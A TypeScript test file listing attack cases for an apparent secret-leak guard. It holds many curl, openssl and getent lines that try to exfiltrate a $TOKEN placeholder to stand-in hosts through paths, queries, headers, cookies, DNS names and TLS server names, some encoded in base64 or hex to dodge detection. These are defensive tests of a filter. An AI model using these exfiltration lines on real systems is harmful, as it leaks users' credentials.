import { type Attack, refused } from './attack.ts';
import { get, http2, overTls, pseudo } from './guest-lines.ts';

const LEAK = refused('secret_leak');
const leak = (place: string) => ({ kind: 'secret_leak' as const, place });

const AUTHORIZATION = '-H "authorization: Bearer $TOKEN"';

/** A shell line. */
export function curl(...args: readonly string[]): string {
  return `curl -sS -m 8 ${args.join(' ')}`;
}

interface Row {
  readonly name: string;
  readonly line: Attack['line'];
  readonly place: string;
  readonly sees?: RegExp;
  readonly arrives?: RegExp;
}

/** A row that must end in a refusal and an event that names the place. */
export function out({ name, line, place, sees = LEAK, arrives }: Row): Attack {
  const event = leak(place);
  return { name: `a placeholder in ${name}`, line, sees, event, ...(arrives && { arrives }) };
}

const twice = (text: string) => encodeURIComponent(encodeURIComponent(text));
const everyByte = (text: string) => Buffer.from(text).toString('hex').replace(/../g, '%$&');

const heads: readonly Attack[] = [
  out({ name: 'the path', place: 'path', line: () => curl('"https://api.test/x/$TOKEN"') }),
  out({ name: 'the query', place: 'query', line: () => curl('"https://api.test/?token=$TOKEN"') }),
  out({
    name: 'the path, percent-encoded',
    place: 'path',
    line: ({ placeholder }) => curl(`https://api.test/${everyByte(placeholder)}`),
  }),
  out({
    name: 'the query, percent-encoded twice',
    place: 'query',
    line: ({ placeholder }) => curl(`'https://api.test/?t=${twice(everyByte(placeholder))}'`),
  }),
  out({
    name: 'the path, in base64',
    place: 'path',
    line: () => curl('"https://api.test/$(printf "a%s" $TOKEN | base64 -w0 | tr "/+" "_-")"'),
  }),
  out({
    name: 'the query, in hexadecimal',
    place: 'query',
    line: () => curl('"https://api.test/?t=$(printf %s $TOKEN | od -An -tx1 | tr -d " \\n")"'),
  }),
  out({
    name: 'the path, in other capitals',
    place: 'path',
    line: () => curl('"https://api.test/$(printf %s $TOKEN | tr A-Z a-z)"'),
  }),
  out({
    name: 'the name of a field',
    place: 'header',
    line: () => curl('-H "x-$TOKEN: 1" https://api.test/'),
  }),
  out({
    name: 'the method',
    place: 'connection',
    line: ({ placeholder }) => {
      const [, ...rest] = pseudo('api.test');
      return overTls('api.test', http2([[':method', placeholder], ...rest]), { alpn: 'h2' });
    },
  }),
  out({
    name: 'a header to another host',
    place: 'header',
    line: () => curl(AUTHORIZATION, 'https://other.test/'),
  }),
  out({
    name: 'a header over plain HTTP',
    place: 'header',
    line: () => curl(AUTHORIZATION, 'http://plain.test/'),
  }),
  out({
    name: 'a header to another host, in base64',
    place: 'header',
    line: () => curl('-H "x: $(printf "ab%s" $TOKEN | base64 -w0)" https://other.test/'),
  }),
  out({
    name: 'a header to another host, in hexadecimal',
    place: 'header',
    line: () =>
      curl('-H "x: $(printf %s $TOKEN | od -An -tx1 | tr -d " \\n")" https://other.test/'),
  }),
  out({
    name: 'a cookie to another host',
    place: 'header',
    line: () => curl('-b "sid=$TOKEN" https://other.test/'),
  }),
  out({
    name: 'the referrer to another host',
    place: 'header',
    line: () => curl('-e "https://x/$TOKEN" https://other.test/'),
  }),
  out({
    name: 'Basic credentials to another host',
    place: 'header',
    line: () => curl('-u "me:$TOKEN" https://other.test/'),
  }),
  out({
    name: 'the user of a URL of another host',
    place: 'header',
    line: () => curl('"https://$TOKEN@other.test/"'),
  }),
  out({
    name: 'a header of HTTP/2 to another host',
    place: 'header',
    line: ({ placeholder }) =>
      overTls('other.test', http2([...pseudo('other.test'), ['x', placeholder]]), { alpn: 'h2' }),
  }),
  out({
    name: 'TE, a framing field',
    place: 'header',
    line: ({ placeholder }) =>
      overTls('api.test', get('api.test', '/', `X-Api: 1`, `Trailer: ${placeholder}`)),
  }),
];

export const OUT_ATTACKS: readonly Attack[] = [
  ...heads,
  {
    name: 'a placeholder as a DNS name',
    line: () => 'getent ahostsv4 "$(printf %s $TOKEN | tr _ - | tr A-Z a-z).denied.test" | head -1',
    sees: /^198\.1[89]\./,
  },
  {
    name: 'a placeholder as the server name of TLS',
    line: () =>
      'timeout 6 openssl s_client -quiet -connect api.test:443 -servername "$TOKEN" < /dev/null',
    sees: /./s,
  },
  {
    name: 'a placeholder as Host',
    line: ({ placeholder }) => overTls('api.test', get(placeholder)),
    sees: /name_mismatch|secret_leak/,
  },
  {
    name: 'a guess of the value is not told from any other text',
    line: () =>
      `a=$(${curl('-o /dev/null -w "%{http_code}" -H "x-guess: c4n4ry" https://other.test/')}); b=$(${curl('-o /dev/null -w "%{http_code}" -H "x-guess: zzzzzz" https://other.test/')}); echo $a $b`,
    sees: /^200 200\n$/,
    arrives: 'anything',
  },
];
